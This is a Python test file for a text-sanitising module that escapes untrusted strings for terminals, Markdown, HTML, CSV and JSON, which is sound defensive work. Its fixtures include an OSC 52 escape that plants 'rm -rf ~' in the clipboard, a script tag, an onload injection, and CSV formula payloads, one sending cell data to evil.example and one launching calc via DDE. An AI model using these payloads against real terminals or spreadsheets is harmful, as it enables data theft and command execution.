"""Untrusted text made safe for each destination (engine.text.safe), fed the strings an attacker writes:
terminal escape sequences, OSC 52 (writes the clipboard), a bidi override, a script tag, a formula."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cyberread.engine.ingest.clean import safe_line
from cyberread.engine.render.report import spreadsheet_cell
from cyberread.engine.text.safe import (
    _INVISIBLE_SPANS,
    _json_escape,
    _terminal_unsafe,
    csv_cell,
    flat_line,
    html_text,
    invisible_ranges,
    json_for_terminal,
    json_utf8_for_terminal,
    markdown_lines,
    markdown_text,
    scanned_invisible_spans,
    terminal_excerpt,
    terminal_line,
    terminal_text,
)
from cyberread.widgets.passage_view import visible_text

CLEAR_SCREEN = "\x1b[2J"
OSC_52 = "\x1b]52;c;cm0gLXJmIH4=\x07"  # sets the clipboard to "rm -rf ~"
C1_CSI = "\x9b31m"
RIGHT_TO_LEFT_OVERRIDE = "\u202e"
HOSTILE = f"a{CLEAR_SCREEN}b{OSC_52}c{C1_CSI}d{RIGHT_TO_LEFT_OVERRIDE}exe.txt\x7f\n<script>alert(1)</script>"
# What a terminal must never receive: C0 controls but line feed, DEL, C1 controls, bidi controls.
TERMINAL_ACTS_ON = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_terminal_text_shows_every_control_as_a_visible_symbol() -> None:
    shown = terminal_text(HOSTILE)
    assert not TERMINAL_ACTS_ON.search(shown)
    assert shown.startswith("a␛[2Jb␛]52;c;cm0gLXJmIH4=␇c")
    assert "�31md�exe.txt␡\n<script>" in shown  # C1 and the override as �, DEL as ␡, the line break kept
    assert terminal_text("plain\ntext [bold]") == "plain\ntext [bold]"


def test_terminal_excerpt_is_one_capped_line_of_visible_characters() -> None:
    excerpt = terminal_excerpt(HOSTILE, limit=20)
    assert len(excerpt) == 20 and excerpt.endswith("…") and "\n" not in excerpt
    assert not TERMINAL_ACTS_ON.search(excerpt)
    assert terminal_excerpt("two\n\nlines  here") == "two lines here"


def test_terminal_line_writes_controls_as_escapes_a_reader_can_see() -> None:
    assert terminal_line(f"{OSC_52}{RIGHT_TO_LEFT_OVERRIDE}x\n\udcff") == "\\x1b]52;c;cm0gLXJmIH4=\\x07\\u202ex\\n\\xff"
    assert terminal_line(C1_CSI + "\x7f") == "\\x9b31m\\x7f"


@given(st.text())
def test_flat_line_is_every_unprintable_character_a_space_then_the_space_collapsed(text: str) -> None:
    assert flat_line(text) == " ".join("".join(c if c.isprintable() else " " for c in text).split())


def test_flat_line_keeps_escapes_off_a_printed_report() -> None:
    assert flat_line(f"one\n{CLEAR_SCREEN}two{RIGHT_TO_LEFT_OVERRIDE}three") == "one [2Jtwo three"


def test_markdown_text_runs_no_html_and_starts_no_markup() -> None:
    escaped = markdown_text("<script>alert(1)</script> &lt;b&gt; [link](javascript:x) *em* `code` # | ~~")
    assert re.search(r"(?<!\\)<", escaped) is None and "\\<script\\>" in escaped
    assert "\\&lt;" in escaped  # an entity reference stays literal text
    assert "\\[link\\](javascript:x)" in escaped
    assert "\\*em\\*" in escaped and "\\`code\\`" in escaped and "\\#" in escaped and "\\|" in escaped
    assert markdown_text("- not a list") == "\\- not a list"
    assert markdown_text("1. not a list") == "1\\. not a list"
    assert not TERMINAL_ACTS_ON.search(markdown_text(HOSTILE)) and "\n" not in markdown_text(HOSTILE)


def test_markdown_lines_keep_the_paragraphs_and_escape_each_line() -> None:
    # A line another follows ends in a hard break: a renderer keeps it a line of its own.
    assert markdown_lines("First <b>line</b>\n\n# not a heading\n- not a list\x1b[2J") == [
        "First \\<b\\>line\\</b\\>",
        "",
        "\\# not a heading\\",
        "\\- not a list \\[2J",
    ]


@settings(max_examples=50)
@given(st.text())
def test_markdown_text_leaves_no_unescaped_markup_character(text: str) -> None:
    escaped = markdown_text(text)
    unescaped = re.sub(r"\\.", "", escaped)
    assert not any(c in unescaped for c in "\\`*_[]<>&#|~")
    assert re.sub(r"\\(.)", r"\1", escaped) == flat_line(text)  # nothing lost but the escaping


def test_html_text_escapes_markup_and_replaces_controls() -> None:
    escaped = html_text(HOSTILE + '" onload="x')
    assert "<" not in escaped and ">" not in escaped and '"' not in escaped
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in escaped and "&quot; onload=&quot;x" in escaped
    assert "\x1b" not in escaped and "\x9b" not in escaped and "\x7f" not in escaped
    assert html_text("a\ud800b") == "a\ufffdb"  # a lone surrogate could not even be encoded


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"],
)
def test_csv_cell_makes_every_formula_text(cell: str) -> None:
    guarded = csv_cell(cell)
    assert guarded == "'" + cell
    (row,) = csv.reader(io.StringIO(_csv_row(guarded)))
    assert row == [guarded]


def test_csv_cell_writes_controls_as_escapes() -> None:
    # A note author's name reached the terminal that printed the CSV as a raw escape sequence.
    assert csv_cell("=HYPERLINK(1) Eve \x1b[31m") == "'=HYPERLINK(1) Eve \\x1b[31m"
    assert csv_cell("\r=1") == "\\r=1"  # a carriage return is no formula's start once written out


def test_csv_cell_leaves_ordinary_text_alone() -> None:
    assert csv_cell("Xinhua, 2011 = a year") == "Xinhua, 2011 = a year"


def test_the_old_names_are_the_safe_functions() -> None:
    # Callers written before text.safe existed keep working, and go through it.
    assert visible_text is terminal_text and safe_line is terminal_line and spreadsheet_cell is csv_cell


def _csv_row(cell: str) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([cell])
    return buffer.getvalue()


# Plain ASCII with the unsafe characters of each kind and safe ones outside ASCII among it, and a lone
# surrogate (the standard library's JSON, the fallback of orjson's, writes one as it is).
_MIXED = st.sampled_from('a \n\t"\\{}\x1b\x7f\x9b\u00a0\u00ad\u2028\u202e\ue000\U000e0001\U0001f600’é\ud83d')


@settings(max_examples=300)
@given(st.one_of(st.text(), st.text(alphabet=_MIXED)))
def test_json_for_terminal_escapes_what_the_plain_substitution_escapes(text: str) -> None:
    # The quick check of the distinct characters outside plain ASCII never lets an unsafe one through.
    plain = _terminal_unsafe().sub(lambda match: _json_escape(match[0]), text)
    assert json_for_terminal(text) == plain
    # The same text as the encoder's UTF-8 comes out as the UTF-8 of the same escaped text.
    assert json_utf8_for_terminal(text.encode("utf-8", "surrogatepass")) == plain.encode("utf-8", "surrogatepass")


def test_the_invisible_characters_kept_for_this_python_are_those_its_unicode_data_gives() -> None:
    # Kept so that a process need not scan the Unicode data; a newer Python than the table knows scans.
    assert unicodedata.unidata_version in _INVISIBLE_SPANS
    scanned = "".join(f"\\U{first:08x}-\\U{last:08x}" for first, last in scanned_invisible_spans())
    assert invisible_ranges() == scanned
